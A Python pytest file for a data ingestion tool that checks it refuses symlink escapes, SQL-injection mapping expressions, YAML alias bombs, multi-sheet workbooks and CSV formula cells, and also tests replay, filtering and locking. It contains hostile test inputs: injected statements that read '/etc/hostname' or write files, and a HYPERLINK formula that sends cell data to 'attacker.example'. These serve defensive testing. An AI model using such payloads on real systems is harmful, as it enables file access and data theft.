"""Input that cannot escape, and mappings users need (issue 12, items 2, 4 and 5).

Hostile or careless input - a symbolic link out of the landing folder, a mapping expression
that writes or reads a file, a billion-laughs mapping, a workbook with two sheets, formula
cells, a landing folder that does not exist - ends in a clear refusal with the right exit
code, and nothing outside the landing folder is read or written. Late accounts release the
rows that waited for them; one export feeds several tables with a row filter; an optional
column's bad values can be set to null; a second writer is refused, naming the first.
"""

from __future__ import annotations

import csv
import io
import logging
import subprocess
import sys
import threading
import time
from pathlib import Path

import duckdb
import pytest

from pipelines.cli import main
from pipelines.cycle import data_dir_lock
from pipelines.errors import ConfigError
from pipelines.ingest.loader import FilesNotLoadable, GateFailed
from pipelines.ingest.mapping import TableMapping, load_mapping_file
from pipelines.ingest.parse import parse
from pipelines.ingest.readers import BatchRejected, RawFrame
from pipelines.contract import TABLES
from tests.test_bad_input import ACCOUNTS, ORDER_HEADER, Landing, good_orders

import pandas as pd


@pytest.fixture
def landing(tmp_path: Path) -> Landing:
    land = Landing(tmp_path)
    land.write("crm/accounts/accounts.csv", ACCOUNTS)
    return land


def cli(landing: Landing, *args: str) -> list[str]:
    return [*args, "--data-dir", str(landing.settings.data_dir), "--mappings", str(landing.settings.mappings_dir)]


# --- the landing folder is a boundary ------------------------------------------------------


def test_a_symlink_to_a_file_outside_the_landing_folder_is_refused_and_not_read(landing, tmp_path):
    secret = tmp_path / "outside" / "passwd"
    secret.parent.mkdir()
    secret.write_text("account_id,account_name,status,updated_at\nROOT,root:x:0:0,customer,2025-01-01\n")
    link = landing.settings.landing_dir / "crm" / "accounts" / "more.csv"
    link.symlink_to(secret)

    failure = landing.ingest()

    assert isinstance(failure, FilesNotLoadable) and failure.exit_code == 4
    (outcome,) = [f for f in failure.report.files if f.file == "crm/accounts/more.csv"]
    assert outcome.status == "not_loadable"
    assert f"a symbolic link to the file {secret}, outside the landing folder: not followed" in outcome.message
    assert "root:x" not in str(failure)  # nothing of the target is read into a message ...
    assert landing.query("select count(*) from meta.quarantine")[0][0] == 0  # ... or into quarantine
    assert landing.query("select count(*) from raw.accounts where account_id = 'ROOT'")[0][0] == 0
    assert [r[0] for r in landing.query("select account_id from raw.accounts order by 1")] == ["A1", "A2"]  # the real file loads


def test_a_symlink_to_a_folder_outside_is_one_refusal_and_the_folder_is_not_walked(landing, tmp_path):
    outside = tmp_path / "etc"
    for i in range(5):
        (outside / f"conf{i}").mkdir(parents=True)
        (outside / f"conf{i}" / "secret.csv").write_text("x\n1\n")
    (landing.settings.landing_dir / "crm" / "order_lines").symlink_to(outside, target_is_directory=True)
    # A link inside the landing folder, to a folder inside it, is followed as before.
    (landing.settings.landing_dir / "erp" / "accounts").mkdir(parents=True)
    (landing.settings.landing_dir / "erp" / "accounts" / "a.csv").write_text(ACCOUNTS.replace("A1", "E1").replace("A2", "E2"))
    (landing.settings.landing_dir / "erp2").symlink_to(landing.settings.landing_dir / "erp", target_is_directory=True)

    failure = landing.ingest()

    assert isinstance(failure, FilesNotLoadable)
    listed = {f.file: f for f in failure.report.files}
    assert listed["crm/order_lines"].status == "not_loadable"
    assert f"a symbolic link to the folder {outside}, outside the landing folder" in listed["crm/order_lines"].message
    assert not any("secret" in name for name in listed)  # its files were never listed
    assert listed["erp/accounts/a.csv"].status == "loaded"


def test_a_missing_landing_folder_is_exit_4_naming_it(tmp_path, capsys):
    land = Landing(tmp_path)  # nothing written: no landing folder at all

    failure = land.ingest()

    assert isinstance(failure, FilesNotLoadable) and failure.exit_code == 4
    assert f"the landing folder {land.settings.landing_dir} does not exist" in str(failure)
    assert main(cli(land, "ingest", "--as-of", "2026-01-31", "--no-fetch")) == 4
    assert f"the landing folder {land.settings.landing_dir} does not exist" in capsys.readouterr().err


# --- mapping expressions run in a sandbox -----------------------------------------------------


@pytest.mark.parametrize(
    "expression, refusal",
    [
        ("1) as x; copy (select 42) to '{target}'; select (1", "it holds a statement other than a SELECT"),
        ("1) as x from read_csv('{target}') --", "it closes the expression and adds query clauses"),
        ("(select content from read_text('/etc/hostname'))", "a subquery (SELECT inside the expression) is not allowed"),
        ("read_text('/etc/hostname')", "function read_text() is not allowed"),
        ("current_setting('home_directory')", "function current_setting() is not allowed"),
    ],
)
def test_an_expression_that_reads_or_writes_files_is_a_configuration_error(landing, tmp_path, capsys, expression, refusal):
    target = tmp_path / "written_by_the_mapping.csv"
    expression = expression.format(target=target)
    landing.mapping("crm.yaml", f'source: crm\ntables:\n  accounts:\n    columns:\n      account_name: "{expression}"\n')
    path = landing.settings.mappings_dir / "crm.yaml"

    with pytest.raises(ConfigError) as error:
        load_mapping_file(path)

    assert f"{path}: tables.accounts.columns.account_name: refused expression" in str(error.value)  # mapping, table, column
    assert refusal in str(error.value)
    assert main(cli(landing, "ingest", "--as-of", "2026-01-31", "--no-fetch")) == 2
    assert "tables.accounts.columns.account_name" in capsys.readouterr().err
    assert not target.exists()
    assert not landing.settings.warehouse_path.exists() or landing.query("select count(*) from raw.accounts")[0][0] == 0


def test_the_parser_never_runs_a_refused_expression_even_if_handed_one(tmp_path):
    """Defence in depth: a mapping built in code (not loaded from a file) still cannot read files."""
    frame = pd.DataFrame({"account_id": ["A1"], "account_name": ["Alpha"], "status": ["customer"], "updated_at": ["2025-01-01"]})
    frame["_line"] = [2]
    target = tmp_path / "out.csv"
    for expression in ("(select content from read_text('/etc/hostname'))", f"1); copy (select 1) to '{target}'; select (1"):
        mapping = TableMapping(source="crm", table="accounts", columns={"account_name": expression})
        with pytest.raises(BatchRejected) as refused:
            parse(RawFrame(frame), mapping, TABLES["accounts"], tmp_path / "a.csv")
        assert "missing column" in refused.value.reason  # taken as a column name, which the file lacks
    assert not target.exists()


def test_a_billion_laughs_mapping_is_refused_fast(landing, capsys):
    bomb = "source: crm\n" + 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    previous = "a"
    for name in "bcdefghi":
        bomb += f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]\n"
        previous = name
    landing.mapping("crm.yaml", bomb)
    path = landing.settings.mappings_dir / "crm.yaml"

    with pytest.raises(ConfigError) as error:
        load_mapping_file(path)

    assert str(error.value) == f"{path}: expands to more than 100,000 values once its aliases are resolved: refused"
    assert main(cli(landing, "validate", "--as-of", "2026-01-31")) == 2
    assert "expands to more than 100,000 values" in capsys.readouterr().err


def test_an_oversized_mapping_is_refused(landing):
    landing.mapping("crm.yaml", "source: crm\n" + "# padding\n" * 200_000)
    with pytest.raises(ConfigError, match="a mapping file may have at most 1,000,000 bytes"):
        load_mapping_file(landing.settings.mappings_dir / "crm.yaml")


# --- workbooks: every sheet read or refused by name --------------------------------------------


def test_a_workbook_with_data_on_two_sheets_is_refused_naming_them_unless_the_mapping_picks_one(landing):
    import openpyxl

    book = openpyxl.Workbook()
    orders = book.active
    orders.title = "Orders"
    for row in (ORDER_HEADER.strip().split(","), ["O1", 1, "A1", "2025-06-01", 1, 10.0, "EUR"]):
        orders.append(row)
    returns = book.create_sheet("Returns")
    for row in (ORDER_HEADER.strip().split(","), ["R1", 1, "A1", "2025-06-02", -1, 10.0, "EUR"]):
        returns.append(row)
    book.create_sheet("Empty")  # a sheet without data is not a table
    path = landing.settings.landing_dir / "crm" / "order_lines" / "june.xlsx"
    path.parent.mkdir(parents=True)
    book.save(path)

    failure = landing.ingest()

    assert isinstance(failure, GateFailed)
    (outcome,) = failure.report.rejected
    assert "the workbook has data on 2 sheets ('Orders', 'Returns')" in outcome.message
    assert "'sheet: Orders'" in outcome.message
    assert landing.raw("order_lines", "order_id") == []

    landing.mapping("crm.yaml", "source: crm\ntables:\n  order_lines:\n    sheet: Returns\n")
    report = landing.ingest()
    assert landing.raw("order_lines", "order_id, quantity") == [("R1", -1.0)], report
    # The sheet the mapping does not name is not ignored without a word.
    assert "sheet(s) 'Orders' not read: the mapping reads sheet 'Returns'" in landing.batch("crm/order_lines/june.xlsx")["message"]


# --- late accounts ----------------------------------------------------------------------------


def test_rows_quarantined_for_an_unknown_account_are_replayed_when_it_arrives(landing, capsys):
    landing.write(
        "crm/order_lines/june.csv", ORDER_HEADER + good_orders("O1") + "O2,1,A9,2025-06-01,2,5.00,EUR\nO3,1,A9,2025-06-02,x,5.00,EUR\n"
    )
    first = landing.ingest()
    assert first.count("loaded") == 2 and first.rows_replayed == 0
    assert [r[1:3] for r in landing.quarantine("crm/order_lines/june.csv")] == [(3, "account_id"), (4, "quantity")]

    landing.write("crm/accounts/late.csv", "account_id,account_name,status,updated_at\nA9,Nine AB,customer,2025-07-01\n")
    second = landing.ingest()

    assert second.replayed == [
        {
            "batch_id": landing.query("select batch_id from meta.batches where file = 'crm/order_lines/june.csv'")[0][0],
            "table": "order_lines",
            "file": "crm/order_lines/june.csv",
            "rows": 1,
        }
    ]
    assert "1 replayed from quarantine (their account arrived)" in second.summary()
    assert landing.raw("order_lines", "order_id, account_id, _file, _line") == [
        ("O1", "A1", "crm/order_lines/june.csv", 2),
        ("O2", "A9", "crm/order_lines/june.csv", 3),
    ]
    # The line with another problem (a quantity that is not a number) stays in quarantine.
    assert [r[1:3] for r in landing.quarantine("crm/order_lines/june.csv")] == [(4, "quantity")]
    landing.assert_counts("crm/order_lines/june.csv", read=3, loaded=2, quarantined=1)
    landing.assert_nothing_lost()
    assert landing.ingest().rows_replayed == 0  # replayed once, not again

    assert main(["status", "--data-dir", str(landing.settings.data_dir)]) == 0
    assert "rows replayed from quarantine once their account arrived: 1" in capsys.readouterr().out


# --- CSV output cannot run formulas ----------------------------------------------------------


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def test_quarantine_csv_neutralises_formula_cells(landing, capsys):
    quoted = '"' + FORMULA.replace('"', '""') + '"'
    landing.write("crm/order_lines/june.csv", ORDER_HEADER + good_orders("O1") + f"O2,1,{quoted},2025-06-01,1,1,EUR\n")
    landing.ingest()

    assert main(["quarantine", "--data-dir", str(landing.settings.data_dir), "--csv"]) == 0

    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(r["line"], r["column_name"], r["value"]) for r in rows] == [("3", "account_id", "'" + FORMULA)]
    assert rows[0]["record"].startswith("{")  # JSON text does not start a formula: unchanged
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())


def test_query_csv_neutralises_formula_cells_and_keeps_numbers(tmp_path, capsys):
    land = Landing(tmp_path)
    land.settings.serving_path.parent.mkdir(parents=True, exist_ok=True)
    with duckdb.connect(str(land.settings.serving_path)) as con:
        con.execute("create table t as select * from (values (?, -5, '+46 8 123'), ('@SUM(A1)', 3, 'plain')) v(name, n, phone)", [FORMULA])

    assert main(["query", "--data-dir", str(land.settings.data_dir), "--csv", "select * from t order by n"]) == 0

    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [["name", "n", "phone"], ["'" + FORMULA, "-5", "'+46 8 123"], ["'@SUM(A1)", "3", "plain"]]


# --- mappings users need -----------------------------------------------------------------------

DEALS = (
    "Deal,Account,Closed,Stage,Amount\n"
    "D1,A1,2025-06-01,Won,100\n"
    "D2,A1,2025-06-02,Lost,200\n"
    "D3,A2,2025-06-03,Won,300\n"
    "D4,A2,2025-06-04,Open,400\n"
)
DEALS_MAPPING = """source: crm
tables:
  order_lines:
    read_from: deals
    where: "Stage = 'Won'"
    columns:
      order_id: Deal
      line_number: "1"
      account_id: Account
      order_date: Closed
      quantity: "1"
      net_price: Amount
      currency: "'EUR'"
  quotes:
    read_from: deals
    columns:
      quote_id: Deal
      account_id: Account
      created_at: Closed
      amount: Amount
      currency: "'EUR'"
      status: lower(Stage)
"""


def test_one_export_feeds_won_deals_to_order_lines_and_every_deal_to_quotes(landing):
    landing.mapping("crm.yaml", DEALS_MAPPING)
    landing.write("crm/deals/deals_june.csv", DEALS)

    report = landing.ingest()

    assert landing.raw("order_lines", "order_id, net_price") == [("D1", 100), ("D3", 300)]
    assert landing.raw("quotes", "quote_id, status") == [("D1", "won"), ("D2", "lost"), ("D3", "won"), ("D4", "open")]
    (lines,) = [f for f in report.files if f.table == "order_lines"]
    assert (lines.rows_read, lines.rows_loaded, lines.rows_filtered) == (2, 2, 2)
    assert "2 row(s) left out by the mapping's where: Stage = 'Won'" in lines.message
    landing.assert_nothing_lost()


def test_an_optional_columns_bad_values_become_null_when_the_mapping_says_so(landing):
    owners = "account_id,account_name,status,updated_at,account_owner,employees\n" + "".join(
        f"B{i},Firm {i},customer,2025-01-01,{'4711' if i % 3 else f'owner{i}@example.com'},{'many' if i == 3 else i}\n" for i in range(30)
    )
    landing.write("crm/accounts/owners.csv", owners)
    refused = landing.ingest()
    assert isinstance(refused, GateFailed)  # today's default: 21 of 30 rows bad, the file is refused

    landing.mapping("crm.yaml", 'source: crm\ntables:\n  accounts:\n    bad_values: {account_owner: "null", employees: "null"}\n')
    report = landing.ingest()

    (outcome,) = [f for f in report.files if f.file == "crm/accounts/owners.csv"]
    assert (outcome.status, outcome.rows_loaded, outcome.rows_quarantined) == ("loaded", 30, 0)
    assert outcome.values_nulled == {"account_owner: value has the wrong form": 20, "employees: wrong type": 1}
    assert "21 bad value(s) in account_owner, employees set to null on 21 row(s)" in outcome.message
    loaded = landing.query("select account_id, account_owner, employees from raw.accounts where account_id in ('B1', 'B3') order by 1")
    assert loaded == [("B1", None, 1), ("B3", "owner3@example.com", None)]
    landing.assert_nothing_lost()


def test_a_required_column_cannot_be_nulled(landing):
    landing.mapping("crm.yaml", 'source: crm\ntables:\n  accounts:\n    bad_values: {account_id: "null", industry: maybe}\n')
    with pytest.raises(ConfigError) as error:
        load_mapping_file(landing.settings.mappings_dir / "crm.yaml")
    assert "tables.accounts.bad_values: 'account_id' is not an optional column (a required one cannot be null)" in str(error.value)
    assert "tables.accounts.bad_values.industry: expected one of quarantine, null, not 'maybe'" in str(error.value)


# --- one writer at a time ---------------------------------------------------------------------


def test_a_second_writer_exits_at_once_naming_the_holder(landing, capsys):
    with data_dir_lock(landing.settings.data_dir, "needseg run --as-of 2026-01-31"):
        code = main(cli(landing, "ingest", "--as-of", "2026-01-31", "--no-fetch"))
    err = capsys.readouterr().err

    assert code == 1
    assert f"another needseg command is writing to {landing.settings.data_dir}: pid " in err
    assert "`needseg run --as-of 2026-01-31`, since 20" in err
    assert "Traceback" not in err
    assert not landing.settings.warehouse_path.exists()  # nothing was done
    assert main(cli(landing, "ingest", "--as-of", "2026-01-31", "--no-fetch")) == 0  # released: the next one runs


def test_a_second_writer_with_wait_runs_once_the_first_is_done(landing, caplog):
    results: list[int] = []
    with caplog.at_level(logging.WARNING, logger="needseg"):
        with data_dir_lock(landing.settings.data_dir, "needseg segment"):
            waiter = threading.Thread(target=lambda: results.append(main(cli(landing, "ingest", "--no-fetch", "--wait"))))
            waiter.start()
            for _ in range(600):
                if any("waiting for the data directory" in r.getMessage() for r in caplog.records):
                    break
                time.sleep(0.05)
            assert results == []  # still waiting while the lock is held
        waiter.join(timeout=300)
    assert results == [0]


def test_the_lock_of_a_dead_process_is_taken_over(landing):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True, check=True)
    lock = landing.settings.data_dir / ".needseg.lock"
    lock.parent.mkdir(parents=True, exist_ok=True)
    lock.write_text(f'{{"pid": {dead.stdout.strip()}, "host": "here", "command": "needseg run", "since": "2026-01-01T00:00:00+00:00"}}')

    assert main(cli(landing, "ingest", "--as-of", "2026-01-31", "--no-fetch")) == 0
    assert lock.read_text() == ""  # released on exit
